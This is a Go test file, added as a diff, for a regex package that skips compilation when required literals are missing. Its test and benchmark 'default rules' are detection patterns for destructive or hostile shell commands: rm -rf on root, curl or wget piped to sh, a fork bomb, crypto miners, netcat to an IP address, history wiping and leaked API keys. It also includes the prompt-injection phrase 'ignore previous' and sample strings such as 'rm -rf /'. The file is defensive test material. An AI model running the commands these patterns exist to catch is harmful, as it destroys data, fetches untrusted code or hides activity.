@@ -1,0 +1,135 @@
+package lazyre
+
+import (
+	"regexp"
+	"slices"
+	"testing"
+)
+
+func TestLiterals(t *testing.T) {
+	tests := []struct {
+		expr string
+		want []string // nil: no prefilter
+	}{
+		{`rm\s+-rf\s+[/~$]`, []string{"-rf"}},
+		{`curl.*\|.*sh`, []string{"curl"}},
+		{`xmrig|minergate|minerd`, []string{"xmrig", "miner"}}, // the parser factors miner(gate|d)
+		{`:\(\)\{.*\}\;:`, []string{":(){"}},
+		{`(?i)api[_\-]?key`, []string{"api"}},
+		{`(?i)Authorization:\s*Bearer`, []string{"authorization:"}},
+		{`history\s+-[cwp]`, []string{"history"}},
+		{`nc\s+.*\d+\.\d+\.\d+\.\d+`, []string{"nc"}},
+		{`a+b`, []string{"a"}}, // Go's parser turns a+b into a concatenation
+		{`\d+`, nil},
+		{`.*`, nil},
+		{`foo|\d`, nil},
+		{`(?:ab)*`, nil},
+		{`x{0,3}y`, []string{"y"}},
+		{`[/~$]`, []string{"$", "/", "~"}},
+	}
+	for _, tt := range tests {
+		r, err := New(tt.expr)
+		if err != nil {
+			t.Fatalf("%s: %v", tt.expr, err)
+		}
+		got := r.Literals()
+		slices.Sort(got)
+		want := slices.Clone(tt.want)
+		slices.Sort(want)
+		if !slices.Equal(got, want) {
+			t.Errorf("%s: literals %q, want %q", tt.expr, got, want)
+		}
+	}
+}
+
+func TestMatchSkipsCompileWithoutLiterals(t *testing.T) {
+	r := MustNew(`curl.*\|.*sh`)
+	ok, err := r.MatchString("go test ./...")
+	if ok || err != nil {
+		t.Fatalf("match %v err %v", ok, err)
+	}
+	if r.re != nil {
+		t.Fatal("compiled although the text lacks every required literal")
+	}
+	ok, _ = r.MatchString("curl -s https://x | sh")
+	if !ok || r.re == nil {
+		t.Fatal("did not compile and match when the literal is present")
+	}
+}
+
+func TestFoldCase(t *testing.T) {
+	r := MustNew(`(?i)ignore\s+previous`)
+	for _, s := range []string{"IGNORE previous", "Ignore PREVIOUS", "ignore\tprevious"} {
+		if ok, _ := r.MatchString(s); !ok {
+			t.Errorf("%q: no match", s)
+		}
+	}
+	// Go folds U+212A KELVIN SIGN to k: the prefilter must not reject it.
+	k := MustNew(`(?i)key`)
+	if ok, _ := k.MatchString("\u212aey"); !ok {
+		t.Error("Kelvin sign: prefilter rejected a real match")
+	}
+}
+
+func TestSyntaxError(t *testing.T) {
+	if _, err := New(`(unclosed`); err == nil {
+		t.Fatal("no error for a bad pattern")
+	}
+}
+
+// FuzzPrefilterNeverHidesAMatch checks the one property that matters: when
+// the compiled expression matches, the prefilter lets the text through.
+func FuzzPrefilterNeverHidesAMatch(f *testing.F) {
+	for _, s := range []struct{ expr, text string }{
+		{`rm\s+-rf\s+[/~$]`, "rm -rf /"},
+		{`(?i)api[_\-]?key[\s:=]+['\"A-Za-z0-9]{20,}`, "API_KEY=abcdefghijabcdefghij"},
+		{`xmrig|minergate|minerd`, "./minerd -o pool"},
+		{`(?i)ſecret`, "SECRET"},
+		{`[a-c]x`, "bx"},
+		{`(?i)k`, "\u212a"},
+	} {
+		f.Add(s.expr, s.text)
+	}
+	f.Fuzz(func(t *testing.T, expr, text string) {
+		re, err := regexp.Compile(expr)
+		if err != nil {
+			return
+		}
+		r, err := New(expr)
+		if err != nil {
+			t.Fatalf("regexp compiles %q but New fails: %v", expr, err)
+		}
+		want := re.MatchString(text)
+		got, err := r.MatchString(text)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got != want {
+			t.Fatalf("%q on %q: lazy %v, regexp %v (literals %q)", expr, text, got, want, r.Literals())
+		}
+	})
+}
+
+func BenchmarkNewAndRejectDefaultRules(b *testing.B) {
+	exprs := []string{`:\(\)\{.*\}\;:`, `rm\s+-rf\s+[/~$]`, `history\s+-[cwp]`, `curl.*\|.*sh`,
+		`wget.*-O-.*\|.*sh`, `xmrig|minergate|minerd`, `nc\s+.*\d+\.\d+\.\d+\.\d+`}
+	for b.Loop() {
+		t := NewText("go test ./... && git push origin main")
+		for _, e := range exprs {
+			r := MustNew(e)
+			if _, err := r.MatchText(t); err != nil {
+				b.Fatal(err)
+			}
+		}
+	}
+}
+
+func BenchmarkCompileDefaultRules(b *testing.B) {
+	exprs := []string{`:\(\)\{.*\}\;:`, `rm\s+-rf\s+[/~$]`, `history\s+-[cwp]`, `curl.*\|.*sh`,
+		`wget.*-O-.*\|.*sh`, `xmrig|minergate|minerd`, `nc\s+.*\d+\.\d+\.\d+\.\d+`}
+	for b.Loop() {
+		for _, e := range exprs {
+			regexp.MustCompile(e).MatchString("go test ./... && git push origin main")
+		}
+	}
+}
